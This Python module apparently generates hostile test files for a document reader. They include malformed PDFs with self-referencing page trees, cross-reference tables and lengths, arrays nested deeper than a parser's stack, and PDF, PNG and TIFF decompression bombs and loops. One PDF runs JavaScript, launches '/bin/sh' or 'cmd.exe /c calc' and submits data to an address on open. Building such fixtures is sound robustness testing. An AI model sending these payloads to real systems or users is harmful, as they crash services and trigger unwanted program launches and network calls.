"""Files that harm whoever trusts them: loops, bombs, wrong names, actions; each made anew."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Sequence

import pikepdf
from odd_pdfs import made, picture_stream, placed, saved, text
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

GIGABYTES = 2 * 2**30
CHUNK = 2**24
METRE = 72 / 0.0254  # points

CATALOG = "<< /Type /Catalog /Pages 2 0 R >>"
PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = """<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R
  /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>"""
SHOWN = "BT /F 12 Tf 72 700 Td (Protokoll om odlingen i Norrdal) Tj ET"
CONTENT = f"<< /Length {len(SHOWN)} >> stream\n{SHOWN}\nendstream"


def by_hand(objects: Sequence[str], trailer: str = "/Root 1 0 R", table: bool = True) -> bytes:
    """A PDF of these objects, numbered from 1, and a table of them; {xref} in the trailer is its place."""
    data = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(data))
        data += f"{number} 0 obj {body} endobj\n".encode("latin-1")
    xref = len(data)
    if table:
        data += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
        data += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    entries = f"/Size {len(objects) + 1} {trailer.replace('{xref}', str(xref))}"
    return data + f"trailer << {entries} >>\nstartxref\n{xref}\n%%EOF\n".encode()


def page_tree_in_itself() -> bytes:
    """The tree of pages is its own child, beside a page."""
    return by_hand([CATALOG, "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>", PAGE, CONTENT])


def parent_of_its_parent() -> bytes:
    """The page's parent is the page itself, and it has no size of its own."""
    page = PAGE.replace("/Parent 2 0 R", "/Parent 3 0 R").replace("/MediaBox [0 0 595 842]", "")
    return by_hand([CATALOG, PAGES, page, CONTENT])


def table_before_itself() -> bytes:
    """The table of objects names itself as the one before it."""
    return by_hand([CATALOG, PAGES, PAGE, CONTENT], "/Root 1 0 R /Prev {xref}")


def object_streams_in_themselves() -> bytes:
    """A stream of objects that extends itself, and another whose length stands in itself."""
    held = "1 0 << /Type /Catalog /Pages 2 0 R >>"
    own = f"<< /Type /ObjStm /N 1 /First 4 /Extends 5 0 R /Length {len(held)} >> stream\n{held}\nendstream"
    round_ = f"<< /Type /ObjStm /N 1 /First 4 /Length 6 0 R >> stream\n6 0 {len(held)}\nendstream"
    return by_hand([CATALOG, PAGES, PAGE, CONTENT, own, round_])


def length_of_itself() -> bytes:
    """The content's length is said by the content itself."""
    return by_hand([CATALOG, PAGES, PAGE, CONTENT.replace(f"/Length {len(SHOWN)}", "/Length 4 0 R")])


def deep_arrays(depth: int = 200_000) -> bytes:
    """An array in an array in an array, deeper than a reader's stack."""
    return by_hand([CATALOG, PAGES, PAGE, CONTENT, "[" * depth + "]" * depth])


def boundless_page() -> bytes:
    """A page larger than Sweden, with a line of text."""
    return by_hand([CATALOG, PAGES, PAGE.replace("595 842", "10000000000 10000000000"), CONTENT])


def boundless_unit() -> bytes:
    """A page whose unit is a hundred thousand points."""
    return by_hand([CATALOG, PAGES, PAGE.replace("/Type /Page", "/Type /Page /UserUnit 100000"), CONTENT])


def zeros(size: int) -> bytes:
    """Flate data that unpacks to so many zeros."""
    deflate = zlib.compressobj(9)
    deflate.compress(bytes(CHUNK))
    deflate.flush(zlib.Z_FULL_FLUSH)  # from here on all chunks are alike
    chunk = deflate.compress(bytes(CHUNK)) + deflate.flush(zlib.Z_FULL_FLUSH)
    rest = zlib.compressobj(9, wbits=-15)
    tail = rest.compress(bytes(size % CHUNK)) + rest.flush()
    check = (size % 65521) << 16 | 1  # Adler-32 of zeros (RFC 1950)
    return b"\x78\xda" + chunk * (size // CHUNK) + tail + check.to_bytes(4, "big")


def as_packed(pdf: pikepdf.Pdf) -> bytes:
    """The PDF with its streams as they are: what unpacks to gigabytes is not unpacked."""
    stream = io.BytesIO()
    pdf.save(stream, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return stream.getvalue()


def content_bomb(size: int = GIGABYTES) -> bytes:
    """A page whose content unpacks to gigabytes, packed twice so that the file is small."""
    with pikepdf.open(io.BytesIO(made(text("Budget")))) as pdf:
        packed = Stream(pdf, zlib.compress(zeros(size), 9))
        packed.Filter = Array([Name.FlateDecode, Name.FlateDecode])
        pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, pdf.make_indirect(packed)])
        return as_packed(pdf)


def picture_bomb(side: int = 60_000) -> bytes:
    """A page with a picture of two tones, of so many pixels each way."""
    with pikepdf.open(io.BytesIO(made(placed("I", (595, 842)), size=(595, 842)))) as pdf:
        entries = {"ColorSpace": Name.DeviceGray, "BitsPerComponent": 1}
        data = zlib.compress(zeros((side + 7) // 8 * side), 9)
        picture = picture_stream(pdf, data, (side, side), entries)
        picture.Filter = Array([Name.FlateDecode, Name.FlateDecode])
        pdf.pages[0].obj.Resources.XObject.I = pdf.make_indirect(picture)
        return as_packed(pdf)


def png_bomb(side: int = 60_000) -> bytes:
    """A PNG of two tones, of so many pixels each way."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    data = zeros(side * ((side + 7) // 8 + 1))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def large_page(side: float = 5 * METRE) -> bytes:
    """A plan of five metres each way, with a line of text."""
    return made(text("Detaljplan", x=200, y=side - 500, size=100), size=(side, side))


def many_pages(count: int) -> bytes:
    """So many pages, every tenth with a line on it."""
    pdf = pikepdf.open(io.BytesIO(made(text("Diarium"))))
    with pdf:
        first = pdf.pages[0].obj
        kids = []
        for number in range(count):
            line = text(f"Diarieblad {number + 1}") if number % 10 == 9 else ""
            content = pdf.make_stream(line.encode())
            page = Dictionary(
                Type=Name.Page, MediaBox=first.MediaBox, Resources=first.Resources, Contents=content
            )
            page.Parent = pdf.Root.Pages
            kids.append(pdf.make_indirect(page))
        pdf.Root.Pages.Kids, pdf.Root.Pages.Count = Array(kids), count
        return saved(pdf)


def with_actions(address: str) -> bytes:
    """A page that on opening, and in its links, runs a script, calls an address and starts a program."""

    def setup(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        script = Dictionary(S=Name.JavaScript, JS=f"app.launchURL('{address}script', true);")
        call = Dictionary(S=Name.URI, URI=f"{address}uri")
        start = Dictionary(S=Name.Launch, F="/bin/sh", Win=Dictionary(F="cmd.exe", P="/c calc"))
        send = Dictionary(
            S=Name.SubmitForm, F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=f"{address}send")
        )
        script.Next = Array([call, start, send])
        pdf.Root.OpenAction = script
        pdf.Root.AA = Dictionary(WC=script, DS=start)
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=["a", script]))
        page.obj.AA = Dictionary(O=script, C=start)
        remote = Stream(pdf, b"")
        remote.Type, remote.Subtype, remote.Width, remote.Height = Name.XObject, Name.Image, 10, 10
        remote.ColorSpace, remote.BitsPerComponent = Name.DeviceGray, 8
        remote.F = Dictionary(
            Type=Name.Filespec, FS=Name.URL, F=f"{address}picture"
        )  # its data lie elsewhere
        page.obj.Resources.XObject.I = remote
        page.obj.Annots = Array(
            [
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 300, 100], A=a)
                for a in (script, start)
            ]
        )

    return made(text("Protokoll") + placed("I"), setup)


def many_frames(count: int) -> bytes:
    """A TIFF of so many small blank pictures."""
    stream = io.BytesIO()
    frames = [Image.new("1", (64, 64), 1) for _ in range(count)]
    frames[0].save(stream, "TIFF", save_all=True, append_images=frames[1:])
    return stream.getvalue()


def frames_in_a_ring() -> bytes:
    """A TIFF whose second picture says that the first one follows."""
    data = bytearray(many_frames(2))
    (first,) = struct.unpack_from("<I", data, 4)
    (second,) = struct.unpack_from("<I", data, _next_at(data, first))
    struct.pack_into("<I", data, _next_at(data, second), first)
    return bytes(data)


def _next_at(data: bytes | bytearray, directory: int) -> int:
    """Where a directory of a TIFF says which one follows: after its entries of 12 bytes each."""
    count: int = struct.unpack_from("<H", data, directory)[0]
    return directory + 2 + 12 * count
